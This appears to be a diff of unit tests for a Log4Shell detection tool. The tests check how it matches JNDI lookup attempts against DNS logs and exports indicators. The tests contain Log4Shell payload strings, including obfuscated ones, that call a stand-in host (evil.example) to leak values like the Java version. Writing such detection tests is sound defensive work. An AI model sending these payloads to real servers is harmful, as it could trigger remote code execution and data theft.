@@ -778,6 +778,65 @@ class Outbound(Case):
         _, rows, _ = hunt("--outbound", out, path)
         self.assertEqual([r["verdict"] for r in rows], ["reaches", "called-back"])
 
+    def test_what_only_the_server_knows(self):
+        """An invented value is never told, and whatever name was asked for in its place is the call-back."""
+        asked = "Dec 13 22:40:06 ns dnsmasq[7]: query[A] %s from 10.20.3.11\n"
+        for inside, host, name, other in (
+                ("${java:version}.evil.example", "${java:version}.evil.example", "17-0-1.evil.example", "java.notevil.example"),
+                ("x-${lower:${java:os}}.evil.example", "x-${java:os}.evil.example", "x-linux.evil.example", "evil.example"),
+                ("${env:HOME}${sys:a}.evil.co.jp", "${env:home}${sys:a}.evil.co.jp", "root.evil.co.jp", "evil2.co.jp"),
+                ("${date:yyyy}.${hostName}.evil.example", "${date:yyyy}.${hostname}.evil.example", "2021.web1.evil.example", "x.example"),
+                ("${env:USER:-none}.evil.example", "${env:user:-none}.evil.example", "root.evil.example", "root.evil2.example"),
+                ("a.${event:ThreadName}.evil.example", "a.${event:threadname}.evil.example", "a.main.evil.example", "main.example"),
+                # a default that is all there is, or hides a piece of what is there
+                ("${env:NaN:-evil.example}", "${env:nan:-evil.example}", "evil.example", "x.evil.example"),
+                ("${env:NaN:-ev}il.example", "${env:nan:-ev}il.example", "evil.example", "devil.example"),
+                ("${env:NaN:-evil.example:1389/a}", "evil.example", "evil.example", "x.evil.example"),
+                ("${env:NaN:-e}vil.example", "evil.example", "evil.example", "x.evil.example"),
+                ("${::-e}v${lower:I}${date:'l'}.example", "evil.example", "evil.example", "x.evil.example")):
+            payload = "${jndi:ldap://" + inside + "/a}"
+            row, s = self.sight(payload, asked % name)
+            self.assertEqual((row["verdict"], row["callback"]["host"], list(s["callbacks"])), ("called-back", host, [host]), inside)
+            self.assertNotIn("17.0", row["resolves_to"])
+            self.assertEqual(self.sight(payload, asked % other)[0]["verdict"], "reaches", inside)
+
+    def test_nothing_of_the_host_is_known(self):
+        """Then nothing can be looked for, and least of all what anybody has names below."""
+        for inside in ("${java:version}", "${env:A}.example", "${env:A}.co.jp", "x.${env:A}", "${env:A}.113.9", "evil.example${env:A}"):
+            payload = "${jndi:ldap://" + inside + "/a}"
+            out = os.path.join(self.dir, "ioc.csv")
+            row, s = self.sight(payload, OUTBOUND["packet"], "--ioc-out", out)
+            self.assertEqual((row["verdict"], row["callback"]["host"]), ("reaches", inside.lower()))
+            roles = [r["role"] for r in csv.DictReader(io.StringIO(read_text(out), newline=""))]
+            self.assertEqual(roles, ["attacking client"], inside)
+
+    def test_decoys_do_not_make_an_invented_host_known(self):
+        """More variables of the server than are followed, before the lookup and within it."""
+        many = "${env:a}" * 400
+        for payload, host in ((many + "${jndi:ldap://${java:version}.evil.example/a}", "${java:version}.evil.example"),
+                              ("${jndi:ldap://${java:version}.evil.example/" + many + "}", "${java:version}.evil.example"),
+                              ("$${jndi:ldap://${java:version}.evil.example/} " + many + "${q}", "${...}"),
+                              ("${jndi:ldap://" + many + "${java:version}.evil.example/}", "${...}")):
+            _, rows, _ = hunt(self.put("a.log", payload + "\n"))
+            self.assertEqual((rows[0]["verdict"], rows[0]["callback"]["host"]), ("reaches", host), payload[-60:])
+
+    def test_names_below_an_indicator(self):
+        """*.evil.example, as this tool and others write it, is any name below."""
+        clean = self.put("a.log", access())
+        out = self.put("out.log", "Dec 13 22:40:06 ns dnsmasq[7]: query[A] a.b.evil.example from 10.20.3.11\n")
+        os.utime(out, (1639500000, 1639500000))
+        csv_out, stix_out = os.path.join(self.dir, "own.csv"), os.path.join(self.dir, "own.json")
+        attempt = self.put("b.log", access("${jndi:ldap://${java:version}.evil.example/a}"))
+        for own in (csv_out, stix_out):
+            self.assertEqual(run("--ioc-out", own, attempt).returncode, 0)
+        for given in ("*.evil.example", self.put("l.txt", "*.evil[.]example\n"), self.put("s.txt", ".evil.example\n"), csv_out, stix_out):
+            code, rows, s = hunt("--outbound", out, "--ioc", given, clean)
+            self.assertEqual((code, [(r["verdict"], r["field"], r["callback"]["host"]) for r in rows]),
+                             (0, [("called-back", "indicator", "*.evil.example")]), given)
+        # what an attempt leads to is told there, not once more
+        _, rows, _ = hunt("--outbound", out, "--ioc", csv_out, attempt)
+        self.assertEqual([(r["verdict"], r["field"]) for r in rows], [("called-back", "User-Agent")])
+
     def test_names(self):
         logs = ("Dec 13 22:40:06 ns dnsmasq[7]: query[A] x1.probe.example from 10.20.3.11\n",
                 "13-Dec-2021 22:40:06.120 client @0x7f 10.20.3.11#5353 (x1.probe.example): query: x1.probe.example IN A + (10.0.0.1)\n",
@@ -852,7 +911,7 @@ class Outbound(Case):
             for key in ("created", "modified", "valid_from"):
                 self.assertRegex(o[key], when)
             self.assertGreaterEqual(o["modified"], o["created"])
-            self.assertRegex(o["pattern"], r"^\[(ipv4-addr|ipv6-addr|domain-name):value = '([^'\\]|\\.)+'\]$")
+            self.assertRegex(o["pattern"], r"^\[((ipv4-addr|ipv6-addr|domain-name):value = '|domain-name:value LIKE '%\.)([^'\\%]|\\.)+'\]$")
             self.assertIn(o["indicator_types"], [["malicious-activity"]])
 
     def test_no_indicators_out(self):
@@ -867,7 +926,7 @@ class Outbound(Case):
         rows = list(csv.DictReader(io.StringIO(read_text(out), newline="")))
         self.assertEqual({(r["type"], r["value"], r["role"]) for r in rows},
                          {("ipv4", "203.0.113.9", "call-back host"), ("domain", "x.probe.example", "call-back host"),
-                          ("domain", "q.example", "call-back host"), ("ipv4", "198.51.100.23", "attacking client")})
+                          ("domain", "*.q.example", "call-back host"), ("ipv4", "198.51.100.23", "attacking client")})
         out = os.path.join(self.dir, "ioc.json")
         self.assertEqual(run("--ioc-out", out, path).returncode, 0)
         bundle = json.loads(read_text(out))
@@ -876,7 +935,7 @@ class Outbound(Case):
         self.assertEqual(len(set(ids.values())), 4)
         self.assertEqual(run("--ioc-out", out, path).returncode, 0)
         self.assertEqual({o["pattern"]: o["id"] for o in json.loads(read_text(out))["objects"]}, ids)  # the same in every run
-        self.assertIn("[domain-name:value = 'q.example']", ids)
+        self.assertIn("[domain-name:value LIKE '%.q.example']", ids)
         self.assertIn("[ipv4-addr:value = '203.0.113.9']", [o["pattern"] for o in bundle["objects"]])
 
 
